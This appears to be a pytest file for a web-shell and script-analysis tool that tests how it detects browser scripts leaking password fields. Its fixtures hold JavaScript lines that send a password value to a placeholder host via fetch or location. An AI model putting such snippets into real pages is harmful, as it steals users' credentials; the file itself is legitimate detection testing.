"""A run over scripts, and the bounds of its parts."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, analysed
from webshellhunt.analysis import engine
from webshellhunt.analysis.browser.machine import BrowserMachine, makes_digest, makes_test
from webshellhunt.analysis.browser.notes import Notes
from webshellhunt.analysis.browser.source import piece_of, source_of
from webshellhunt.client_scripts.script_analysis import Fields
from webshellhunt.lang.symbol_collection import collect

CODE = "a = 1; while (b) { a = f(a); }"


def machine_of(code: str) -> BrowserMachine:
    source = source_of([piece_of(code)])
    symbols = collect(source.scripts[0].top, "jscript")
    return BrowserMachine(symbols, Notes(source, Fields({"pw"}, asks_password=True)), engine.BASE_STEPS)


def test_what_needs_too_many_steps_is_dropped() -> None:
    machine = machine_of(CODE)
    before = machine.budget.left
    first, second = machine.notes.source.scripts[0].top.statements
    assert machine.allow(100, lambda: machine.execute(first))
    assert not machine.allow(5, lambda: machine.execute(second))
    assert before - machine.budget.left <= 105
    assert (machine.state.depth, len(machine.frames)) == (0, 1)
    assert machine.allow(1_000, lambda: machine.execute(second))
    machine.disconnect()


def test_functions_are_noted_when_they_are_made() -> None:
    machine = machine_of("a = function () { };")
    machine.execute(machine.notes.source.scripts[0].top.statements[0])
    assert len(machine.notes.functions.made) == 1
    machine.disconnect()


@pytest.mark.parametrize(
    ("value", "is_sent"),
    [
        ("md5(p)", False),
        ("isValid(p)", False),
        ("p.match(/a/)", False),
        ("encode(p)", True),
        ("p.charCodeAt(0)", True),
        ("(p.charCodeAt(0) ^ 3).toString(16)", True),
        ("p.length", False),
        ("p.indexOf('a')", False),
        ("p == 'a'", False),
    ],
)
def test_what_is_left_of_a_value(value: str, is_sent: bool) -> None:
    assert bool(analysed(TAKEN + f"fetch('//a.example', {value});").exfiltrations) is is_sent


def test_the_address_of_the_page_is_no_variable() -> None:
    assert analysed(TAKEN + "location = '//a.example/' + p;").exfiltrations
    assert not analysed(TAKEN + "function f(location) { location = '//a.example/' + p; } f(1);").exfiltrations


def test_the_origin_is_the_text_of_the_expression() -> None:
    (leak,) = analysed("fetch('//a.example', document.getElementById('pw').value);").exfiltrations
    assert leak.trace is not None
    assert leak.trace.origin == "document.getElementById('pw').value"


@pytest.mark.parametrize(
    "name", ["md5", "hex_md5", "hex_hmac_md5", "sha256", "sha_1", "createhash", "digest", "bcrypt"]
)
def test_digests(name: str) -> None:
    assert makes_digest(name)


@pytest.mark.parametrize("name", ["isvalid", "checkpassword", "zxcvbn", "match", "parseint", "indexof"])
def test_tests(name: str) -> None:
    assert makes_test(name)


@pytest.mark.parametrize("name", ["encode", "btoa", "send", "escape", "x" * 99, ""])
def test_other_functions(name: str) -> None:
    assert not makes_digest(name)
    assert not makes_test(name)
